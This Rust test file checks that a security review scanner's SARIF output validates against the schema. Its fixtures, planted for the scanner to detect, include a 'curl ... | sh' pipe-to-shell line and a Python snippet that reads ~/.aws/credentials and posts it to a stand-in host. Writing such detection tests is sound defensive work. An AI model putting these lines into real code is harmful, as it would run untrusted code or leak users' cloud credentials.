//! SARIF 2.1.0 output (`review-gate github --sarif`, `--format sarif`) validated against the schema in
//! `fixtures/sarif-2.1.0.schema.json`.

mod common;
#[cfg(feature = "github")]
mod gh;

use std::path::Path;

use common::Repo;
#[cfg(feature = "github")]
use gh::{actions_env, python, run_github, PullRequest};
#[cfg(feature = "github")]
use serde_json::json;
use serde_json::Value;

/// The published schema's `language` pattern has a stray `]` that is not a valid ECMA-262 regex, so a
/// strict validator rejects the schema itself (Ajv does too). The shipped file stays as published; the
/// test drops that one pattern before compiling it.
const BROKEN_LANGUAGE_PATTERN: &str = "^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$";

fn drop_broken_patterns(value: &mut Value) -> usize {
    match value {
        Value::Object(map) => {
            let mut dropped = 0;
            if map.get("pattern").and_then(Value::as_str) == Some(BROKEN_LANGUAGE_PATTERN) {
                map.remove("pattern");
                dropped += 1;
            }
            dropped + map.values_mut().map(drop_broken_patterns).sum::<usize>()
        }
        Value::Array(items) => items.iter_mut().map(drop_broken_patterns).sum(),
        _ => 0,
    }
}

fn sarif_validator() -> jsonschema::Validator {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/sarif-2.1.0.schema.json");
    let mut schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    assert!(drop_broken_patterns(&mut schema) > 0);
    jsonschema::options()
        .with_draft(jsonschema::Draft::Draft4)
        .should_validate_formats(true)
        .build(&schema)
        .expect("the schema compiles")
}

fn assert_valid_sarif(validator: &jsonschema::Validator, sarif: &Value) {
    let errors: Vec<String> = validator
        .iter_errors(sarif)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    // `artifactLocation.uri` is a `uri-reference`: only unreserved characters, `/` and escapes.
    for result in sarif["runs"][0]["results"].as_array().unwrap() {
        let uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap();
        assert!(
            uri.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"-._~/%".contains(&b)),
            "{uri}"
        );
    }
}

#[cfg(feature = "github")]
#[tokio::test]
async fn sarif_output_validates_against_the_schema() {
    let validator = sarif_validator();
    // The schema is not a rubber stamp.
    assert!(!validator.is_valid(&json!({"version": "2.1.0", "runs": [{"tool": {}}]})));
    let pr = PullRequest::new(
        &[],
        &[
            (
                "app.py",
                &python(&["os.system(cmd)", "x = os.environ['HOME']"]),
            ),
            (
                "dir with space/run#1.sh",
                b"curl https://example.com/x.sh | sh\n",
            ),
        ],
    );
    let out = pr.dir.path().join("gate.sarif");
    let mut env = actions_env(&pr, "http://127.0.0.1:9");
    env.retain(|(k, _)| k != "GITHUB_TOKEN");
    let run = run_github(
        pr.repo.path(),
        env,
        &["--report", "sarif", "--sarif", out.to_str().unwrap()],
    )
    .await;
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let sarif: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    assert_valid_sarif(&validator, &sarif);
    let run0 = &sarif["runs"][0];
    let rules = run0["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run0["results"].as_array().unwrap();
    assert!(results.len() >= 3, "{results:#?}");
    for result in results {
        let rule = &rules[result["ruleIndex"].as_u64().unwrap() as usize];
        assert_eq!(rule["id"], result["ruleId"]);
        assert!(rule["help"]["text"]
            .as_str()
            .unwrap()
            .contains("What it finds"));
        assert!(rule["help"]["text"].as_str().unwrap().contains("\nFix\n  "));
        let markdown = rule["help"]["markdown"].as_str().unwrap();
        for label in [
            "**What it finds:**",
            "**Why it matters:**",
            "**Example:**",
            "**Fix:**",
        ] {
            assert!(markdown.contains(label), "{markdown}");
        }
        assert_ne!(rule["fullDescription"]["text"], rule["help"]["text"]);
        assert!(
            rule["shortDescription"]["text"].is_string()
                && rule["fullDescription"]["text"].is_string()
        );
        assert!(rule["properties"]["tags"].as_array().unwrap().len() >= 2);
        assert!(["error", "warning", "note"].contains(&result["level"].as_str().unwrap()));
        assert!(result["partialFingerprints"]["reviewGateFingerprint/v1"]
            .as_str()
            .is_some_and(|f| !f.is_empty()));
        let region = &result["locations"][0]["physicalLocation"]["region"];
        assert!(
            region["startLine"].as_u64().unwrap() >= 1
                && region["startColumn"].as_u64().unwrap() >= 1
        );
    }
    let os_system = results
        .iter()
        .find(|r| r["ruleId"] == "exec.python.os-system")
        .unwrap();
    assert_eq!(os_system["level"], "error");
    assert_eq!(
        os_system["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "app.py"
    );
    assert_eq!(
        os_system["locations"][0]["physicalLocation"]["region"]["startLine"],
        2
    );
    assert!(results.iter().any(
        |r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            == "dir%20with%20space/run%231.sh"
    ));

    // The same renderer behind `--format sarif` of every review command.
    let run = pr.repo.run(&["diff", "main", "--format", "sarif"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let from_diff: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_valid_sarif(&validator, &from_diff);
    assert_eq!(from_diff["runs"][0]["results"], sarif["runs"][0]["results"]);
    // A clean change is a valid log with no results.
    let clean = Repo::new();
    clean.write("a.txt", "hello\n");
    clean.commit("one");
    let run = clean.run(&["diff", "HEAD", "--format", "sarif"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let empty: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_valid_sarif(&validator, &empty);
    assert_eq!(empty["runs"][0]["results"], json!([]));
}

#[test]
fn an_attack_chain_is_a_valid_result_with_its_parts_as_related_locations() {
    let validator = sarif_validator();
    let repo = Repo::new();
    repo.write("README.md", "# x\n");
    repo.commit("base");
    repo.write(
        "tool/update.py",
        "import os\nimport requests\n\ncreds = open(os.path.expanduser(\"~/.aws/credentials\")).read()\nrequests.post(\"https://x.example.net/u\", data=creds)\n",
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "sarif"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let sarif: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_valid_sarif(&validator, &sarif);
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let chain = &results[0];
    assert_eq!(chain["ruleId"], "attack.exfiltration", "{results:#?}");
    let related = chain["relatedLocations"].as_array().unwrap();
    assert_eq!(related.len(), 2);
    assert_eq!(related[0]["physicalLocation"]["region"]["startLine"], 4);
    assert_eq!(related[1]["physicalLocation"]["region"]["startLine"], 5);
    assert!(chain["message"]["text"]
        .as_str()
        .unwrap()
        .contains("collects secrets (attack.signal.credential-file-code at tool/update.py:4)"));
}

#[test]
fn skipped_files_are_named_in_a_valid_tool_execution_notification() {
    let validator = sarif_validator();
    let repo = Repo::new();
    repo.write("README.md", "# x\n");
    repo.commit("base");
    let mut image = b"\x89PNG\r\n\x1a\n".to_vec();
    image.extend((0u32..900).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
    repo.write("img/a b.png", image);
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "sarif"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let sarif: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_valid_sarif(&validator, &sarif);
    let notes = sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"]
        .as_array()
        .unwrap();
    assert_eq!(notes.len(), 1);
    assert_eq!(
        notes[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "img/a%20b.png"
    );
}
